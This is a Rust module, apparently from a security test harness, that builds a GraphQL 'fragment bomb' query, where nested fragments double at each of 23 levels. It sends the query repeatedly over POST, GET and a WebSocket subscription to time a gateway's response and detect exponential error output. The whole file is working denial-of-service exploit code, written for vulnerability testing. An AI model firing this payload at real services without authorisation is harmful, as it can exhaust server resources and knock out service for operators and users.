//! Fragment bomb (issue 9, item 1): about 1 KB of query in which each fragment spreads the next
//! one twice, BOMB_DEPTH levels deep (default 23), sent BOMB_REPEAT times (default 3) over POST,
//! GET and a graphql-transport-ws subscription. Reports per-transport time and the size of the
//! WebSocket answer (a vulnerable gateway answers 2^n duplicated errors).
use std::time::{Duration, Instant};

use anyhow::{Context, bail};
use futures::{SinkExt, StreamExt};
use serde_json::{Value, json};
use tokio_tungstenite::tungstenite::{Message, client::IntoClientRequest, http::HeaderValue};

use crate::{Target, env_or};

pub fn bomb(operation: &str, on: &str, depth: usize) -> String {
    let mut q = format!("{operation} {{ ...F0 }}\n");
    for i in 0..depth {
        q.push_str(&format!("fragment F{i} on {on} {{ ...F{next} ...F{next} }}\n", next = i + 1));
    }
    q.push_str(&format!("fragment F{depth} on {on} {{ __typename }}\n"));
    q
}

fn verdict(v: &Value) -> String {
    match v["errors"][0]["message"].as_str() {
        Some(m) => format!(
            "refused ({} error(s): {})",
            v["errors"].as_array().map_or(0, Vec::len),
            m.chars().take(60).collect::<String>()
        ),
        None => "ANSWERED".into(),
    }
}

pub async fn run(target: &Target) -> anyhow::Result<String> {
    let depth = env_or("BOMB_DEPTH", 23usize);
    let repeat = env_or("BOMB_REPEAT", 3usize);
    let query = bomb("query", "QueryRoot", depth);
    let mut out = vec![format!("n={depth}, {} bytes, x{repeat}", query.len())];

    let started = Instant::now();
    let mut last = String::new();
    for _ in 0..repeat {
        let v: Value = target.http.post(target.graphql()).json(&json!({ "query": query })).send().await?.json().await?;
        last = verdict(&v);
    }
    out.push(format!("POST {:.3}s/req {last}", started.elapsed().as_secs_f64() / repeat as f64));

    let started = Instant::now();
    let url = reqwest::Url::parse_with_params(&target.graphql(), [("query", query.as_str())])?;
    for _ in 0..repeat {
        let v: Value = target.http.get(url.clone()).send().await?.json().await?;
        last = verdict(&v);
    }
    out.push(format!("GET {:.3}s/req {last}", started.elapsed().as_secs_f64() / repeat as f64));

    let started = Instant::now();
    let (messages, errors, bytes) =
        over_websocket(target, &bomb("subscription", "SubscriptionRoot", depth), repeat).await?;
    out.push(format!(
        "WS {:.3}s/op, per op: {} message(s), {} error(s), {:.1} KiB",
        started.elapsed().as_secs_f64() / repeat as f64,
        messages / repeat,
        errors / repeat,
        bytes as f64 / 1024.0 / repeat as f64
    ));
    Ok(out.join("; "))
}

/// Subscribes `repeat` times on one anonymous connection, each time reading until the operation
/// completes (or the server goes quiet for 30 s); returns (messages, errors, bytes) received in
/// total.
async fn over_websocket(target: &Target, query: &str, repeat: usize) -> anyhow::Result<(usize, usize, usize)> {
    let mut req = target.ws().into_client_request()?;
    req.headers_mut().insert("Sec-WebSocket-Protocol", HeaderValue::from_static("graphql-transport-ws"));
    let (mut ws, _) = tokio_tungstenite::connect_async(req).await.context("WebSocket connect")?;
    ws.send(Message::text(json!({ "type": "connection_init", "payload": {} }).to_string())).await?;
    let (mut messages, mut errors, mut bytes) = (0, 0, 0);
    let mut acked = false;
    for id in 0..repeat {
        let id = id.to_string();
        let subscribe = json!({ "id": id, "type": "subscribe", "payload": { "query": query } });
        ws.send(Message::text(subscribe.to_string())).await?;
        loop {
            let msg = match tokio::time::timeout(Duration::from_secs(30), ws.next()).await {
                Ok(Some(Ok(Message::Text(t)))) => t,
                Ok(Some(Ok(Message::Close(_)))) | Ok(None) => bail!("the gateway closed the connection"),
                Ok(Some(Ok(_))) => continue,
                Ok(Some(Err(e))) => bail!("WebSocket: {e}"),
                Err(_) => bail!("no answer for 30 s"),
            };
            let v: Value = serde_json::from_str(&msg)?;
            let payload = &v["payload"];
            errors += payload["errors"].as_array().or(payload.as_array()).map_or(0, Vec::len);
            match (v["type"].as_str(), v["id"].as_str()) {
                (Some("connection_ack"), _) => acked = true,
                (Some("ping"), _) => ws.send(Message::text(json!({ "type": "pong" }).to_string())).await?,
                (Some("complete"), Some(done)) if done == id => break,
                (Some("error"), Some(done)) if done == id => {
                    (messages, bytes) = (messages + 1, bytes + msg.len());
                    break;
                }
                _ => (messages, bytes) = (messages + 1, bytes + msg.len()),
            }
        }
    }
    if !acked {
        bail!("connection_init was not acknowledged");
    }
    let _ = ws.close(None).await;
    Ok((messages, errors, bytes))
}
